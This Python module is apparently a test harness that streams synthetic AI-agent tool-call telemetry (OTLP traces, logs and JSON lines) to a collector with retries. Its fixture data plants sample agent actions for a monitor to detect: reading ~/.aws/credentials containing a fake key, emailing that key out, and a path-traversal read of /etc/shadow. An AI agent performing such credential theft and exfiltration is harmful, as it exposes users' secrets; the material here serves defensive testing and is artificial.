"""Clients as exporters are: one request after another, each sent again and again until it is acknowledged."""

import base64
import gzip
import hashlib
import json
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

import grpc
import httpx
from google.protobuf import json_format
from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest

EXPORT = {
    "traces": "/opentelemetry.proto.collector.trace.v1.TraceService/Export", "logs": "/opentelemetry.proto.collector.logs.v1.LogsService/Export",
}
RETRYABLE_HTTP = {429, 502, 503, 504}
RETRYABLE_GRPC = {
    grpc.StatusCode.CANCELLED, grpc.StatusCode.DEADLINE_EXCEEDED, grpc.StatusCode.ABORTED, grpc.StatusCode.OUT_OF_RANGE,
    grpc.StatusCode.UNAVAILABLE, grpc.StatusCode.DATA_LOSS,
}
"""After any other answer an exporter throws the request away (OTLP 1.11, "Failures")."""

ANSWER_SECONDS, AGAIN_SECONDS = 10, 0.1
REQUESTS_A_SESSION, CALLS_A_REQUEST = 12, 3
READS, SENDS, CLIMBS = 3, 6, 9
"""The requests of a session that read a secret, send it away, and climb out of a folder; so there is something to find."""

BEGUN_NS = 1_790_000_000_000_000_000
SECOND_NS = 1_000_000_000


@dataclass(frozen=True, slots=True)
class Planned:
    """A call that a client tells of; `id` stands in its arguments."""

    id: str
    session: str
    seq: int
    tool: str
    arguments: dict[str, str]
    result: str

    @property
    def began_ns(self) -> int:
        """When it was made, as it says; the calls of a session come one second after another."""
        return BEGUN_NS + self.seq * SECOND_NS


def planned(client: str, n: int) -> list[Planned]:
    """The calls of a client's n-th request."""
    session, step = f"{client}-{n // REQUESTS_A_SESSION}", n % REQUESTS_A_SESSION
    secret = f"AKIA{sum(map(ord, client)):04d}{n // REQUESTS_A_SESSION:012d}".translate(str.maketrans("0189", "HIJK"))  # base 32 has none of these
    made = []
    for k in range(CALLS_A_REQUEST):
        tool, more, result = "look_up", {"city": f"Oslo {n}"}, f"fine weather in Oslo, report {n}"
        if k == 0 and step == READS:
            tool, more, result = "read_file", {"path": "/home/ada/.aws/credentials"}, f"[default]\naws_access_key_id = {secret}"
        elif k == 0 and step == SENDS:
            tool, more, result = "send_email", {"to": "someone@example.net", "body": f"as asked: {secret}"}, "sent"
        elif k == 0 and step == CLIMBS:
            tool, more, result = "read_file", {"path": "../../../../etc/shadow"}, "not allowed"
        call_id = f"{client}/{n}/{k}"
        made.append(Planned(call_id, session, n * CALLS_A_REQUEST + k, tool, {"id": call_id, **more}, result))
    return made


def lines(calls: list[Planned]) -> bytes:
    """Calls as JSON lines."""
    return b"\n".join(json.dumps({
        "session_id": one.session, "seq": one.seq, "timestamp": one.began_ns / SECOND_NS, "tool": one.tool, "arguments": one.arguments,
        "result": one.result,
    }).encode() for one in calls)


def spans(calls: list[Planned]) -> dict[str, Any]:
    """Calls as an agent and its server see them: two spans each, one inside the other."""
    made = []
    for one in calls:
        trace = hashlib.blake2b(one.id.encode(), digest_size=16).hexdigest()
        told = {"gen_ai.tool.name": one.tool, "gen_ai.conversation.id": one.session}
        content = {"gen_ai.tool.call.arguments": json.dumps(one.arguments), "gen_ai.tool.call.result": one.result}
        for n, attributes in enumerate(({"gen_ai.operation.name": "execute_tool", **told, **content}, {"mcp.method.name": "tools/call", **told}), 1):
            made.append({
                "traceId": trace, "spanId": f"{n:016x}", "parentSpanId": f"{n - 1:016x}" if n > 1 else "", "name": f"tools/call {one.tool}",
                "startTimeUnixNano": one.began_ns + n, "endTimeUnixNano": one.began_ns + SECOND_NS // 2 - n, "kind": (1, 2)[n - 1],
                "attributes": _attributes(attributes),
            })
    return {"resourceSpans": [{"resource": {"attributes": _attributes({"service.name": "an-agent"})}, "scopeSpans": [{"spans": made}]}]}


def logs(calls: list[Planned]) -> dict[str, Any]:
    """Calls as a coding agent logs them."""
    made = [{
        "timeUnixNano": one.began_ns, "body": {"stringValue": "claude_code.tool_result"},
        "attributes": _attributes({
            "event.name": "tool_result", "event.sequence": str(one.seq), "session.id": one.session, "tool_name": one.tool, "success": "true",
            "tool_input": json.dumps(one.arguments),
        }),
    } for one in calls]
    scoped = {"scope": {"name": "com.anthropic.claude_code.events"}, "logRecords": made}
    return {"resourceLogs": [{"resource": {"attributes": _attributes({"service.name": "claude-code"})}, "scopeLogs": [scoped]}]}


def _attributes(pairs: dict[str, str]) -> list[dict[str, Any]]:
    return [{"key": key, "value": {"stringValue": value}} for key, value in pairs.items()]


def protobuf(request: dict[str, Any]) -> bytes:
    """A request in protobuf."""
    kind = ExportTraceServiceRequest if "resourceSpans" in request else ExportLogsServiceRequest
    return bytes(json_format.ParseDict(_base64_ids(request), kind()).SerializeToString())


def _base64_ids(value: Any) -> Any:
    """The JSON of the protobuf library, which is not OTLP's: ids in base64."""
    if isinstance(value, list):
        return [_base64_ids(one) for one in value]
    if not isinstance(value, dict):
        return value
    return {key: base64.b64encode(bytes.fromhex(one)).decode() if key.endswith("Id") else _base64_ids(one) for key, one in value.items()}


ROUTES: dict[str, Callable[[list[Planned]], bytes]] = {
    "http lines": lines,
    "http traces json": lambda calls: json.dumps(spans(calls)).encode(),
    "http logs protobuf": lambda calls: protobuf(logs(calls)),
    "http traces gzip": lambda calls: protobuf(spans(calls)),
    "grpc traces": lambda calls: protobuf(spans(calls)),
    "grpc logs": lambda calls: protobuf(logs(calls)),
}
"""Transport, signal and encoding, and how calls are written there."""


def accepted_as(route: str) -> tuple[str, str]:
    """The signal and encoding of a route, as a collector is asked."""
    words = route.split()
    return ("calls", "") if words[1] == "lines" else (words[1], "json" if "json" in words else "protobuf")


class ThrownAway(Exception):
    """An answer after which an exporter does not send a request again."""


@dataclass
class Client:
    """Sends until told to stop, and then until its last request is acknowledged."""

    name: str
    route: str
    http: str
    grpc: str
    pause: float
    acknowledged: list[bytes] = field(default_factory=list)
    sent_again: int = 0
    thrown_away: list[str] = field(default_factory=list)
    longest: float = 0.0
    """Seconds until a request was acknowledged, at worst."""

    def __post_init__(self) -> None:
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name=self.name, daemon=True)
        self._thread.start()

    def stop(self) -> None:
        """Begin no further request."""
        self._stop.set()

    def join(self, seconds: float) -> bool:
        """Whether the last request was acknowledged in time."""
        self._thread.join(seconds)
        return not self._thread.is_alive()

    def _run(self) -> None:
        with _over_grpc(self.grpc, self.route) if self.route.startswith("grpc") else _over_http(self.http, self.route) as deliver:
            self._send_all(deliver)

    def _send_all(self, deliver: Callable[[bytes], bool]) -> None:
        n = 0
        while not self._stop.wait(self.pause):
            body, begun = ROUTES[self.route](planned(self.name, n)), time.monotonic()
            try:
                while not deliver(body):
                    self.sent_again += 1
                    time.sleep(AGAIN_SECONDS)
            except ThrownAway as answer:
                self.thrown_away.append(str(answer))
            else:
                self.acknowledged.append(body)
            self.longest = max(self.longest, time.monotonic() - begun)
            n += 1


@contextmanager
def _over_http(url: str, route: str) -> Iterator[Callable[[bytes], bool]]:
    """What sends a body, and says whether it was acknowledged. Raises ThrownAway where it is not to be sent again."""
    signal, encoding = accepted_as(route)
    client = httpx.Client(base_url=url, timeout=ANSWER_SECONDS, trust_env=False, verify=False)
    zipped = route.endswith("gzip")
    headers = {"content-type": "application/x-protobuf" if encoding == "protobuf" else "application/json"}

    def deliver(body: bytes) -> bool:
        try:
            if zipped:
                answer = client.post(f"/v1/{signal}", content=gzip.compress(body), headers={**headers, "content-encoding": "gzip"})
            else:
                answer = client.post(f"/v1/{signal}", content=body, headers=headers)
        except httpx.TransportError:
            return False
        if answer.status_code in RETRYABLE_HTTP:
            return False
        stored = b"" if encoding == "protobuf" else {"accepted": CALLS_A_REQUEST} if signal == "calls" else {}
        if answer.status_code != 200 or (answer.content if encoding == "protobuf" else answer.json()) != stored:
            raise ThrownAway(f"{route}: {answer.status_code} {answer.content[:200]!r}")
        return True

    with client:
        yield deliver


@contextmanager
def _over_grpc(target: str, route: str) -> Iterator[Callable[[bytes], bool]]:
    signal, _ = accepted_as(route)
    options = [("grpc.enable_http_proxy", 0), ("grpc.initial_reconnect_backoff_ms", 100), ("grpc.max_reconnect_backoff_ms", 500)]
    channel = grpc.insecure_channel(target, options=options)
    call = channel.unary_unary(EXPORT[signal])

    def deliver(body: bytes) -> bool:
        try:
            answer = call(body, timeout=ANSWER_SECONDS)
        except grpc.RpcError as error:
            if error.code() in RETRYABLE_GRPC:
                return False
            raise ThrownAway(f"{route}: {error.code()} {error.details()}") from error
        if answer:
            raise ThrownAway(f"{route}: partial success {answer[:200]!r}")
        return True

    with channel:
        yield deliver
